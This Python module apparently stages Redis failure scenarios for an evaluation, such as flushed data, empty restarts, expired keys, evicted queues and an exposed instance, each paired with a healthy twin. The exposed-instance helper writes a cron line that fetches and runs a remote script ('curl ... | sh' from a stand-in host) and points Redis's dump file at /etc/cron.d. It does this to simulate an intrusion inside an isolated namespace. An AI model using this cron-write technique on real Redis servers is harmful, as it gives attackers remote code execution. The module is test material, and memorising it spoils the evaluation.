"""Faults of the data itself: it was removed, stands elsewhere, or is open to everybody."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from random import Random

from hiredis import ReplyError

from evals.lab.fault import NO_FAULT, Family, Incident
from evals.lab.machine import place, server_in
from evals.lab.netns import available, namespace
from evals.lab.servers import ServerKind, running
from evals.lab.traffic import application, application_name, fill, operator_name
from evals.lab.wire import crew, dial, packed

FAULTS = Family("data")
_GONE = (
    "All sessions are gone from Redis, everybody was logged out at once.",
    "Keys vanished: the product cache in Redis is empty, the database behind it can't keep up.",
    "We lost data in Redis, nearly all keys are missing.",
)
_MISSING = (
    "Every lookup in Redis misses since the deploy; is this data loss?",
    "All our sessions are missing from Redis, please restore the backup.",
)
_JOBS = (
    "Jobs vanish from the queue without any error; mails are never sent.",
    "Queued jobs disappear in Redis: producers say they pushed them, workers never saw them.",
)
_STRANGE = (
    "There are keys in Redis that nobody wrote, and our data is gone.",
    "Redis is empty, and the CPU of that machine is busy with something unknown.",
)
_OVERWRITES = (r"FLUSH(ALL|DB)", r"\brestore\b.*\bover this server\b")
MIB = 1 << 20


async def looks_up(url: str, rng: Random, name: str, prefix: str, count: int, pause: float, db: int = 0) -> None:
    wire = await dial(url, name=name)
    try:
        if db:
            await wire.ask("SELECT", db)
        while True:
            await wire.ask("GET", f"{prefix}{rng.randrange(count):07d}")
            await asyncio.sleep(rng.uniform(0.5, 1.5) * pause)
    finally:
        await wire.close()


def _flushed(id: str, command: str, stays: bool) -> None:
    @FAULTS.fault(id, *_GONE, cause="data-gone", twin="healthy-flushed-long-ago", never=_OVERWRITES)
    async def make(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
        async with running(kind) as server, crew() as hands:
            count = rng.randrange(3000, 20_000)
            await fill(server.url, rng, count, size=rng.randrange(50, 400), prefix="session:")
            name = application_name(rng)
            for _ in range(3):
                work = looks_up(server.url, Random(rng.random()), name, "session:", count, 0.03)
                hands.spawn(work)
            await asyncio.sleep(0.5)
            wire = await hands.dial(server.url, name=operator_name(rng))
            await wire.ask(command, timeout=10)
            if not stays:
                await hands.drop(wire)
            await asyncio.sleep(1)
            yield Incident(url=server.url, pid=server.pid)


_flushed("data-gone-flushed", "FLUSHALL", True)
_flushed("data-gone-flushed-database", "FLUSHDB", False)


@FAULTS.fault("data-gone-restarted-empty", *_GONE, cause="data-gone", twin="healthy-restart-with-data",
              never=_OVERWRITES)  # fmt: skip
async def restarted_empty(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """A server without persistence was restarted."""
    with place() as here:
        count = rng.randrange(3000, 20_000)
        async with server_in(kind, here) as server:
            await fill(server.url, rng, count, prefix="session:")
        async with server_in(kind, here) as server, crew() as hands:
            name = application_name(rng)
            for _ in range(3):
                work = looks_up(server.url, Random(rng.random()), name, "session:", count, 0.03)
                hands.spawn(work)
            await asyncio.sleep(1.5)
            yield Incident(url=server.url, pid=server.pid)


@FAULTS.fault("data-gone-expired", *_GONE, cause="data-gone", twin="healthy-expiry", never=_OVERWRITES)
async def expired(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """A script gave all keys a time to live of a moment, and they went."""
    async with running(kind) as server, crew() as hands:
        count = rng.randrange(3000, 10_000)
        await fill(server.url, rng, count, size=200, prefix="session:")
        wire = await hands.dial(server.url)
        lines = b"".join(packed("PEXPIRE", f"session:{n:07d}", rng.randrange(1, 1500)) for n in range(count))
        await wire.pipeline(lines, count)
        name = application_name(rng)
        for _ in range(3):
            hands.spawn(looks_up(server.url, Random(rng.random()), name, "session:", count, 0.03))
        for _ in range(100):
            if not await wire.ask("DBSIZE"):
                break
            await asyncio.sleep(0.2)
        yield Incident(url=server.url, pid=server.pid)


@FAULTS.fault("wrong-database", *_MISSING, *_GONE[:1], twin="healthy-load",
              never=(*_OVERWRITES, r"SWAPDB", r"RESTORE"))  # fmt: skip
async def wrong_database(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """The application selects another database than the one that holds its keys."""
    async with running(kind) as server, crew() as hands:
        count, db = rng.randrange(500, 20_000), rng.randrange(1, 12)
        await fill(server.url, rng, count, prefix="session:")
        name = application_name(rng)
        for _ in range(rng.randrange(2, 6)):
            hands.spawn(looks_up(server.url, Random(rng.random()), name, "session:", count, 0.05, db))
        await asyncio.sleep(1)
        yield Incident(url=server.url, pid=server.pid)


async def _cached(url: str, rng: Random, name: str, size: int) -> None:
    """Pages that nobody has asked for before, so that room has to be made for each."""
    wire = await dial(url, name=name)
    try:
        while True:
            at = f"page:{rng.randrange(10**9)}"
            if await wire.ask("GET", at) is None:
                await wire.ask("SET", at, "x" * size, "EX", 3600)
            await asyncio.sleep(0.01)
    finally:
        await wire.close()


async def _works(url: str, name: str, queue: str) -> None:
    wire = await dial(url, name=name)
    try:
        while True:
            await wire.ask("BRPOP", queue, 1, timeout=5)
            await asyncio.sleep(0.2)
    finally:
        await wire.close()


async def _pushes(url: str, rng: Random, queue: str) -> None:
    wire = await dial(url, name=application_name(rng))
    try:
        while True:
            with suppress(ReplyError):
                await wire.ask("LPUSH", queue, f"job-{rng.randrange(10**6)}")
            await asyncio.sleep(0.15)
    finally:
        await wire.close()


@asynccontextmanager
async def _beside(kind: ServerKind, rng: Random, policy: str) -> AsyncIterator[Incident]:
    async with running(kind, maxmemory="12mb", maxmemory_policy=policy) as server, crew() as hands:
        wire = await hands.dial(server.url)
        for begin in range(0, 16_000, 1000):
            lines = (packed("SET", f"page:{n}", "x" * 1000, "EX", 3600) for n in range(begin, begin + 1000))
            await wire.pipeline(b"".join(lines), 1000)
        for queue in ("jobs:mail", "jobs:invoice"):
            hands.spawn(_pushes(server.url, Random(rng.random()), queue))
            hands.spawn(_works(server.url, application_name(rng), queue))
        name = application_name(rng)
        for _ in range(3):
            hands.spawn(_cached(server.url, Random(rng.random()), name, 1000))
        await asyncio.sleep(1)
        yield Incident(url=server.url, pid=server.pid)


@FAULTS.fault("queue-evicted", *_JOBS, twin="eviction-churn", never=(r"CONFIG SET maxmemory \d", *_OVERWRITES))
async def queue_evicted(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """Queues live in a cache that evicts any key."""
    async with _beside(kind, rng, rng.choice(("allkeys-lru", "allkeys-random", "allkeys-lfu"))) as incident:
        yield incident


@asynccontextmanager
async def _opened(kind: ServerKind, rng: Random, traces: bool, beyond: str = "") -> AsyncIterator[Incident]:
    where = f"127.0.0.1 {beyond}".strip()
    async with running(kind, bind=where, protected_mode="no") as server, crew() as hands:
        await fill(server.url, rng, rng.randrange(500, 3000), prefix="session:")
        if traces:
            wire = await dial(server.url)
            await wire.ask("FLUSHALL")
            for number in range(1, 5):
                await wire.ask(
                    "SET", f"backup{number}", "\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/i.sh | sh\n"
                )
            with suppress(ReplyError):
                await wire.ask("CONFIG", "SET", "dir", "/etc/cron.d")
            with suppress(ReplyError):
                await wire.ask("CONFIG", "SET", "dbfilename", "root")
            await wire.close()
        name = application_name(rng)
        for _ in range(3):
            hands.spawn(looks_up(server.url, Random(rng.random()), name, "session:", 500, 0.05))
        await asyncio.sleep(1)
        yield Incident(url=server.url, pid=server.pid)


@FAULTS.fault("exposed-instance", *_STRANGE, also=("data-gone",), twin="healthy-development-server",
              needs=available, never=(r"protected-mode no", *_OVERWRITES))  # fmt: skip
async def exposed_instance(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """Open beyond loopback without a password, and a stranger emptied it and tried to write a cron file.

    The address is this end of a cable that leads to a namespace of ours: nobody else reaches it.
    """
    async with namespace() as space, _opened(kind, rng, True, space.outside) as incident:
        yield incident


@FAULTS.fault("healthy-development-server", "Is it a problem that our Redis has no password?", cause=NO_FAULT,
              twin="exposed-instance")  # fmt: skip
async def healthy_development_server(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """Without a password and protected mode, on loopback only."""
    async with _opened(kind, rng, False) as incident:
        yield incident


@FAULTS.fault("healthy-flushed-long-ago", "Somebody emptied the cache last week; is Redis all right today?",
              "The shop is slow, we suspect Redis.", cause=NO_FAULT, twin="data-gone-flushed")  # fmt: skip
async def healthy_flushed(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """A cache that was flushed by design, and is warm again."""
    async with running(kind) as server, crew() as hands, application(server.url, rng):
        await fill(server.url, rng, 3000, prefix="page:")
        wire = await hands.dial(server.url)
        await wire.ask("FLUSHDB")
        await fill(server.url, rng, 3000, prefix="page:")
        name = application_name(rng)
        for _ in range(3):
            hands.spawn(looks_up(server.url, Random(rng.random()), name, "page:", 3000, 0.02))
        await hands.drop(wire)
        await asyncio.sleep(1)
        yield Incident(url=server.url, pid=server.pid)


@FAULTS.fault("healthy-restart-with-data", "Redis was restarted as planned this morning; did we lose data?",
              "Checkout times out on Redis since the planned restart.", cause=NO_FAULT,
              twin="data-gone-restarted-empty")  # fmt: skip
async def healthy_restart(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """Saved, restarted, loaded."""
    with place() as here:
        async with server_in(kind, here, save="3600 1") as server:
            await fill(server.url, rng, 3000, prefix="session:")
            wire = await dial(server.url)
            await wire.ask("SAVE")
            await wire.close()
        async with server_in(kind, here, save="3600 1") as server, crew() as hands, application(server.url, rng):
            hands.spawn(looks_up(server.url, Random(rng.random()), application_name(rng), "session:", 3000, 0.02))
            await asyncio.sleep(1)
            yield Incident(url=server.url, pid=server.pid)


@FAULTS.fault("healthy-queue-beside-cache", "Jobs run a little late. Does Redis throw away queued jobs?",
              "evicted_keys grows; are our queues safe?", cause=NO_FAULT, twin="queue-evicted")  # fmt: skip
async def healthy_queue(kind: ServerKind, rng: Random) -> AsyncIterator[Incident]:
    """A cache whose keys have a time to live evicts those alone, and is nearly always hit; queues are beside it."""
    async with running(kind, maxmemory="12mb", maxmemory_policy="volatile-lru") as server, crew() as hands:
        wire = await hands.dial(server.url)
        for begin in range(0, 16_000, 1000):
            lines = (packed("SET", f"page:{n:07d}", "x" * 1000, "EX", 36_000) for n in range(begin, begin + 1000))
            await wire.pipeline(b"".join(lines), 1000)
        lines = (packed("SET", f"hot:{n:07d}", "x" * 200, "EX", 36_000) for n in range(500))
        await wire.pipeline(b"".join(lines), 500)
        hands.spawn(_pushes(server.url, Random(rng.random()), "jobs:mail"))
        hands.spawn(_works(server.url, application_name(rng), "jobs:mail"))
        name = application_name(rng)
        for _ in range(3):
            hands.spawn(looks_up(server.url, Random(rng.random()), name, "hot:", 500, 0.02))
        await asyncio.sleep(1)
        yield Incident(url=server.url, pid=server.pid)
